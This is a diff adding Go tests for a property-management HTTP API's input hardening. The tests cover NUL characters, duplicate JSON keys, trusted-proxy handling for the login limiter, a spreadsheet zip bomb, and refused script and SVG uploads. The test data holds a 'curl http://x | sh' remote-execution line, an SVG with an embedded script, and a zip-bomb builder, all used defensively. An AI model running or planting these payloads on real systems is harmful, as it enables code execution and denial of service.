@@ -1,0 +1,271 @@
+package httpapi_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http/httptest"
+	"runtime"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/wuye-project/wuye/core/httpapi"
+	"github.com/wuye-project/wuye/core/identity"
+	"github.com/wuye-project/wuye/core/store"
+	"github.com/wuye-project/wuye/core/store/storetest"
+)
+
+// fieldErr returns the first field error of an invalid_input answer.
+func fieldErr(m map[string]any) (field, code string) {
+	e, _ := m["error"].(map[string]any)
+	fe, _ := e["details"].([]any)
+	if len(fe) == 0 {
+		return "", ""
+	}
+	f, _ := fe[0].(map[string]any)
+	field, _ = f["field"].(string)
+	code, _ = f["code"].(string)
+	return field, code
+}
+
+// TestNULRefused: a NUL character in a JSON string, a JSON key, a query value
+// or a path parameter is a 400 naming the field, on both engines (PostgreSQL
+// answered 500 for it, SQLite stored it).
+func TestNULRefused(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		cs, _ := importAPI(t, db)
+		a := cs["a"]
+		raw := func(method, path, body string) (int, map[string]any) {
+			rec := a.raw(method, path, "application/json", []byte(body))
+			out := map[string]any{}
+			json.Unmarshal(rec.Body.Bytes(), &out)
+			return rec.Code, out
+		}
+		for _, tc := range []struct{ method, path, body, field string }{
+			{"POST", "/api/v1/communities", `{"name":"a\u0000b"}`, "name"},
+			{"POST", "/api/v1/communities", `{"name":"ok","a\u0000":1}`, `a\u0000`},
+			{"GET", "/api/v1/persons?name=%00", "", "name"},
+			{"GET", "/api/v1/communities?q=x%00y", "", "q"},
+			{"DELETE", "/api/v1/persons/" + "00000000-0000-0000-0000-000000000001" + "/tags/a%00b", "", "tag"},
+		} {
+			st, out := raw(tc.method, tc.path, tc.body)
+			if f, code := fieldErr(out); st != 400 || errCode(out) != "invalid_input" || code != "invalid_character" || f != tc.field {
+				t.Errorf("%s %s %s: %d %v, want 400 invalid_character on %q", tc.method, tc.path, tc.body, st, out, tc.field)
+			}
+		}
+		if st, out := raw("GET", "/api/v1/communities", ""); st != 200 || out["total"].(float64) != 0 {
+			t.Errorf("a community was stored: %d %v", st, out)
+		}
+	})
+}
+
+// TestDuplicateJSONKeys: encoding/json keeps the last of two equal keys; the
+// API refuses such a body and names the key's path.
+func TestDuplicateJSONKeys(t *testing.T) {
+	db := storetest.SQLite(t)
+	cs, _ := importAPI(t, db)
+	a := cs["a"]
+	for body, key := range map[string]string{
+		`{"name":"a","name":"b"}`:                               "name",
+		`{"name":"a","code":"x","code":"y"}`:                    "code",
+		`{"name":"a","nested":{"k":1,"k":2}}`:                   "nested.k",
+		`{"name":"a","list":[{"k":1},{"k":1,"k":2}]}`:           "list[1].k",
+		`{"name":"a","list":[{"k":1},{"k":[1,{"x":1,"x":1}]}]}`: "list[1].k[1].x",
+	} {
+		rec := a.raw("POST", "/api/v1/communities", "application/json", []byte(body))
+		out := map[string]any{}
+		json.Unmarshal(rec.Body.Bytes(), &out)
+		e, _ := out["error"].(map[string]any)
+		d, _ := e["details"].(map[string]any)
+		if rec.Code != 400 || errCode(out) != "duplicate_json_key" || d["key"] != key {
+			t.Errorf("%s: %d %v, want 400 duplicate_json_key on %q", body, rec.Code, out, key)
+		}
+	}
+	// Equal keys in different objects are fine (then the unknown field is refused as before).
+	rec := a.raw("POST", "/api/v1/communities", "application/json", []byte(`{"name":"a","x":{"name":1}}`))
+	if rec.Code != 400 || !strings.Contains(rec.Body.String(), "malformed_json") {
+		t.Errorf("nested equal key: %d %s", rec.Code, rec.Body)
+	}
+	if st, out := a.do("POST", "/api/v1/communities", map[string]any{"name": "阳光花园"}); st != 201 {
+		t.Errorf("good body: %d %v", st, out)
+	}
+}
+
+// TestForwardedHeadersNeedTrustedProxy: X-Forwarded-For / X-Real-IP are
+// believed only from a configured proxy. Without one, a caller cannot escape
+// the per-address login limit by changing the header, nor put an address of
+// its choice in the audit.
+func TestForwardedHeadersNeedTrustedProxy(t *testing.T) {
+	db := storetest.SQLite(t)
+	acme := tenant(t, db, "acme")
+	svc := identity.New(db, identity.Config{JWTSecret: []byte("http-test-secret-http-test-secret-32")}, &entries{}, &roleBook{})
+	svc.CreateUser(context.Background(), acme, identity.NewUser{Username: "lara", Password: goodPW})
+	login := func(h *httpapi.Server, xff string) int {
+		req := httptest.NewRequest("POST", "/api/v1/auth/login", strings.NewReader(`{"login":"nobody","password":"x"}`))
+		req.RemoteAddr = "198.51.100.7:4321"
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("X-Forwarded-For", xff)
+		req.Header.Set("X-Real-IP", xff)
+		w := httptest.NewRecorder()
+		h.Handler().ServeHTTP(w, req)
+		return w.Code
+	}
+
+	t.Run("no trusted proxy", func(t *testing.T) {
+		log := &entries{}
+		srv := httpapi.New(httpapi.Deps{DB: db, Auth: svc, Identity: svc, Audit: log, Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
+		st := 0
+		for i := 0; i < 30 && st != 429; i++ {
+			st = login(srv, fmt.Sprintf("203.0.113.%d", i))
+		}
+		if st != 429 {
+			t.Fatalf("a new X-Forwarded-For per attempt escaped the limiter (last %d)", st)
+		}
+		if st = login(srv, "203.0.113.200"); st != 429 {
+			t.Fatalf("a fresh X-Forwarded-For got in again after 429: %d", st)
+		}
+		for _, e := range log.e {
+			if e.IP != "198.51.100.7" {
+				t.Fatalf("audit IP %q, want the connection's address", e.IP)
+			}
+		}
+		if len(log.e) == 0 {
+			t.Fatal("nothing audited")
+		}
+	})
+
+	t.Run("trusted proxy", func(t *testing.T) {
+		log := &entries{}
+		proxies, err := httpapi.ParseTrustedProxies(" 10.0.0.0/8, 198.51.100.7 ,")
+		if err != nil || len(proxies) != 2 {
+			t.Fatal(proxies, err)
+		}
+		srv := httpapi.New(httpapi.Deps{DB: db, Auth: svc, Identity: svc, Audit: log, TrustedProxies: proxies, Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
+		for i := 0; i < 30; i++ {
+			if st := login(srv, fmt.Sprintf("192.0.2.%d", i)); st == 429 {
+				t.Fatalf("clients behind a trusted proxy share one budget: 429 at attempt %d", i)
+			}
+		}
+		if ip := log.e[len(log.e)-1].IP; ip != "192.0.2.29" {
+			t.Fatalf("audit IP %q, want the forwarded client", ip)
+		}
+	})
+
+	if _, err := httpapi.ParseTrustedProxies("10.0.0.0/8,not-an-ip"); err == nil {
+		t.Fatal("a bad proxy entry was accepted")
+	}
+}
+
+// bombXLSX is an .xlsx of one sheet: a header row "小区" and one row whose
+// first cell is n bytes of 'a'; the zip is about n/1000 bytes.
+func bombXLSX(t *testing.T, n int) []byte {
+	t.Helper()
+	var out bytes.Buffer
+	zw := zip.NewWriter(&out)
+	part := func(name, body string) {
+		w, _ := zw.Create(name)
+		io.WriteString(w, body)
+	}
+	part("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`)
+	part("_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`)
+	part("xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="房屋" sheetId="1" r:id="rId1"/></sheets></workbook>`)
+	part("xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`)
+	w, _ := zw.Create("xl/worksheets/sheet1.xml")
+	io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+
+		`<row r="1"><c r="A1" t="inlineStr"><is><t>小区</t></is></c><c r="B1" t="inlineStr"><is><t>楼栋</t></is></c><c r="C1" t="inlineStr"><is><t>单元</t></is></c><c r="D1" t="inlineStr"><is><t>房号</t></is></c></row>`+
+		`<row r="2"><c r="A2" t="inlineStr"><is><t>`)
+	chunk := bytes.Repeat([]byte{'a'}, 1<<20)
+	for ; n > 0; n -= len(chunk) {
+		w.Write(chunk[:min(n, len(chunk))])
+	}
+	io.WriteString(w, `</t></is></c></row></sheetData></worksheet>`)
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
+
+// TestImportHostileFiles: a spreadsheet bomb is refused at once with a short
+// answer; an over-long cell is refused; a long value is echoed only in part;
+// a NUL in a cell is a row problem on both engines.
+func TestImportHostileFiles(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		cs, _ := importAPI(t, db)
+		a := cs["a"]
+		compound(t, a)
+		const xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+		bomb := bombXLSX(t, 200<<20)
+		var before, after runtime.MemStats
+		runtime.GC()
+		runtime.ReadMemStats(&before)
+		start := time.Now()
+		rec := a.raw("POST", "/api/v1/imports/rooms?dry_run=true", xlsxType, bomb)
+		took := time.Since(start)
+		runtime.ReadMemStats(&after)
+		if rec.Code != 400 || !strings.Contains(rec.Body.String(), `"sheet_too_large"`) || rec.Body.Len() > 1024 {
+			t.Fatalf("bomb of %d KB: %d %.300s (%d bytes)", len(bomb)>>10, rec.Code, rec.Body, rec.Body.Len())
+		}
+		if alloc := after.TotalAlloc - before.TotalAlloc; took > 5*time.Second || alloc > 32<<20 {
+			t.Errorf("bomb took %v and %d MB", took, alloc>>20)
+		}
+
+		rec = a.raw("POST", "/api/v1/imports/rooms?dry_run=true", xlsxType, bombXLSX(t, 1<<20))
+		if rec.Code != 400 || !strings.Contains(rec.Body.String(), `"sheet_cell_too_long"`) || rec.Body.Len() > 1024 {
+			t.Fatalf("1 MB cell: %d %.300s", rec.Code, rec.Body)
+		}
+
+		tpl := a.raw("GET", "/api/v1/imports/rooms/template?format=csv", "", nil)
+		long := strings.Repeat("长", 5000)
+		rec = a.raw("POST", "/api/v1/imports/rooms?format=csv&dry_run=true", "text/csv", csvFile(t, tpl.Body.Bytes(),
+			[]string{long, "1栋", "1单元", "901"},
+			[]string{"阳光花园", "1栋", "1单元", "9\x0002"},
+			[]string{"阳光花园", "1栋", "1单元", "903"}))
+		if rec.Body.Len() > 4096 {
+			t.Errorf("report of %d bytes echoes whole cells", rec.Body.Len())
+		}
+		rep := report(t, rec)
+		for _, p := range rep.Problems {
+			if n := utf8.RuneCountInString(p.Value); n > 65 {
+				t.Errorf("problem echoes %d characters: %+v", n, p.Code)
+			}
+		}
+		if rep.BadRows != 2 || !slices.Contains(problems(rep), "3 number invalid_character") {
+			t.Fatalf("report %+v", rep)
+		}
+	})
+}
+
+// TestAssetDocumentsRefuseScriptsAndMarkup: a shell script and an SVG without
+// an XML prolog, which the sniffer calls plain text, answer 415.
+func TestAssetDocumentsRefuseScriptsAndMarkup(t *testing.T) {
+	db := storetest.SQLite(t)
+	h, _, _ := newAPI(db)
+	a := client{t, h, "a"}
+	_, comm := a.do("POST", "/api/v1/communities", map[string]any{"name": "阳光花园"})
+	st, as := a.do("POST", "/api/v1/assets", map[string]any{"community_id": comm["id"], "code": "E1", "name": "1号电梯", "category": "elevator"})
+	if st != 201 {
+		t.Fatalf("asset %d %v", st, as)
+	}
+	docs := "/api/v1/assets/" + as["id"].(string) + "/documents"
+	for name, data := range map[string]string{
+		"install.sh":  "#!/bin/sh\ncurl http://x | sh\n",
+		"install.txt": "#!/bin/sh\ncurl http://x | sh\n",
+		"logo.svg":    `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
+		"logo.txt":    `<svg xmlns="http://www.w3.org/2000/svg"></svg>`,
+	} {
+		if rec, body := a.upload(docs, name, []byte(data)); rec.Code != 415 || errCode(body) != "unsupported_media_type" {
+			t.Errorf("%s: %d %v", name, rec.Code, body)
+		}
+	}
+	if rec, body := a.upload(docs, "巡检记录.txt", []byte("电梯运行正常 #!\n温度 < 40℃\n")); rec.Code != 201 {
+		t.Errorf("plain text: %d %v", rec.Code, body)
+	}
+}
